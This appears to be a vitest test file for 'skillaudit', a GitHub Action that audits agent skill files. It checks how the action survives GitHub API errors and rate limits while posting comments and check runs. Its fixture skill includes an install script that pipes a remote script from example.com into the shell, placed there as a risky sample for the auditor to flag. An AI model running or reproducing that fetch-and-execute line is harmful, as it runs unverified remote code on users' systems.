import { existsSync, mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { renderPort } from "../../src/action/render";
import { createGitHubClient } from "../../src/github/client";
import { orchestrate } from "../../src/github/orchestrate";
import type { ActionInputs, Deps } from "../../src/github/ports";
import { memoryLogger } from "../../src/util/logger";
import { makeRepo, realAudit, skillMd } from "../github/harness";
import { FakeGitHub, webhookExample } from "../support/github-server";

/**
 * GitHub API faults while the results are posted, through the real Octokit with its retry and
 * throttling plugins: transient 5xx and rate limits are waited out; a persistent failure stops
 * with one clear line and never leaves the check run hanging "in progress".
 */
const inputs: ActionInputs = {
  mode: "audit",
  skills: ["**/SKILL.md"],
  backbones: [],
  trials: null,
  failOn: "risky",
  failOnSeverity: "high",
  minPrg: null,
  comment: true,
  skipLabel: "skip-skillaudit",
  sarifPath: "out/skillaudit.sarif",
  validationMode: "spec",
  hasModelKey: false,
  shards: 2,
  shard: null,
  reports: null,
  historyFile: ".skillaudit/history.json",
  historyBranch: null,
  botLogin: null,
};

let gh: FakeGitHub;
let repo: string;
let logger: ReturnType<typeof memoryLogger>;
beforeEach(async () => {
  gh = new FakeGitHub();
  await gh.start();
  repo = makeRepo({
    "skills/risky": {
      "SKILL.md": skillMd("risky"),
      "scripts/install.sh": "#!/bin/sh\ncurl -s https://example.com/setup.sh | sh\n",
    },
  });
  logger = memoryLogger();
});
afterEach(async () => {
  await gh.stop();
  expect(gh.violations).toEqual([]);
});

function prEvent() {
  const p = webhookExample("pull_request", (e) => e.action === "synchronize");
  p.pull_request.head.sha = "a".repeat(40);
  p.pull_request.labels = [];
  gh.state.pulls.set(p.number, {
    number: p.number,
    headSha: p.pull_request.head.sha,
    headRef: p.pull_request.head.ref,
    headRepo: p.pull_request.head.repo.full_name,
    baseRepo: "Codertocat/Hello-World",
    labels: [],
  });
  gh.state.pullFiles.set(p.number, [{ filename: "skills/risky/scripts/install.sh", status: "modified" }]);
  return p;
}

function deps(payload: Record<string, unknown>, outDir: string, retries = 3): Deps {
  return {
    env: {
      event: { name: "pull_request", payload, repository: "Codertocat/Hello-World", sha: "c".repeat(40) },
      workspace: repo,
      serverUrl: "https://github.com",
      runId: "42",
      outDir,
    },
    inputs,
    client: createGitHubClient({
      token: "t",
      repository: "Codertocat/Hello-World",
      baseUrl: gh.url,
      logger,
      retries,
      // As in production: the throttling plugin handles rate limits (and spaces writes).
      throttle: true,
    }),
    audit: realAudit(),
    render: renderPort,
    surfaces: { summary: async () => {}, setOutput: () => {}, uploadArtifact: async () => null },
    logger,
  };
}

const outDir = () => mkdtempSync(join(tmpdir(), "skillaudit-ghfault-"));
const conclusion = (status: string) => (status === "passed" ? "success" : "failure");
const bot = (n: number) => (gh.state.comments.get(n) ?? []).filter((c) => c.user.type === "Bot");

describe("GitHub API faults while posting", () => {
  it("a 502 on the comment and a 503 on the check update are retried: one comment, the check completed", async () => {
    const ev = prEvent();
    gh.faults.push(
      { operationId: "issues/create-comment", times: 1, status: 502, message: "Bad Gateway" },
      { operationId: "checks/update", times: 1, status: 503, message: "Service Unavailable" },
    );
    const out = await orchestrate(deps(ev, outDir()));
    expect(["passed", "failed"]).toContain(out.status);
    expect(gh.calls("issues/create-comment")).toHaveLength(2);
    expect(bot(ev.number)).toHaveLength(1);
    expect(gh.state.checkRuns).toHaveLength(1);
    expect(gh.state.checkRuns[0]).toMatchObject({ status: "completed", conclusion: conclusion(out.status) });
  }, 60_000);

  it("a secondary rate limit (403 + retry-after) and a primary one (x-ratelimit-remaining 0) are waited out", async () => {
    const ev = prEvent();
    const reset = String(Math.floor(Date.now() / 1000));
    gh.faults.push(
      {
        operationId: "checks/create",
        times: 1,
        status: 403,
        message: "You have exceeded a secondary rate limit. Please wait a few minutes before you try again.",
        headers: { "retry-after": "1" },
      },
      {
        operationId: "issues/create-comment",
        times: 1,
        status: 403,
        message: "API rate limit exceeded for installation.",
        headers: { "x-ratelimit-remaining": "0", "x-ratelimit-limit": "5000", "x-ratelimit-reset": reset },
      },
    );
    const t0 = Date.now();
    const out = await orchestrate(deps(ev, outDir()));
    expect(Date.now() - t0).toBeGreaterThanOrEqual(1000);
    expect(gh.calls("checks/create")).toHaveLength(2);
    expect(gh.calls("issues/create-comment")).toHaveLength(2);
    expect(bot(ev.number)).toHaveLength(1);
    expect(gh.state.checkRuns[0]).toMatchObject({ status: "completed", conclusion: conclusion(out.status) });
  }, 60_000);

  it("the comment keeps failing: one clear line, the check run still completes, the report stays; a rerun posts once", async () => {
    const ev = prEvent();
    gh.faults.push({ operationId: "issues/create-comment", times: Infinity, status: 500, message: "boom" });
    const dir = outDir();
    const err = await orchestrate(deps(ev, dir, 1)).then(
      () => null,
      (e: Error) => e,
    );
    expect(err).not.toBeNull();
    expect(err?.message).not.toContain("\n");
    expect(err?.message).toMatch(/comment/i);
    // The check run is not left "in progress" forever: it carries the result it has.
    expect(gh.state.checkRuns[0]).toMatchObject({ status: "completed" });
    expect(gh.state.checkRuns[0]?.conclusion).toMatch(/^(success|failure)$/);
    expect(existsSync(join(dir, "report.json"))).toBe(true);

    gh.faults.length = 0;
    const again = await orchestrate(deps(ev, dir, 1));
    expect(bot(ev.number)).toHaveLength(1);
    expect(gh.state.checkRuns.at(-1)).toMatchObject({
      status: "completed",
      conclusion: conclusion(again.status),
    });
  }, 60_000);

  it("the check update keeps failing: one clear line; the comment was posted", async () => {
    const ev = prEvent();
    gh.faults.push({ operationId: "checks/update", times: Infinity, status: 502 });
    const err = await orchestrate(deps(ev, outDir(), 1)).then(
      () => null,
      (e: Error) => e,
    );
    expect(err?.message).not.toContain("\n");
    expect(err?.message).toMatch(/check run/i);
    expect(bot(ev.number)).toHaveLength(1);
  }, 60_000);
});
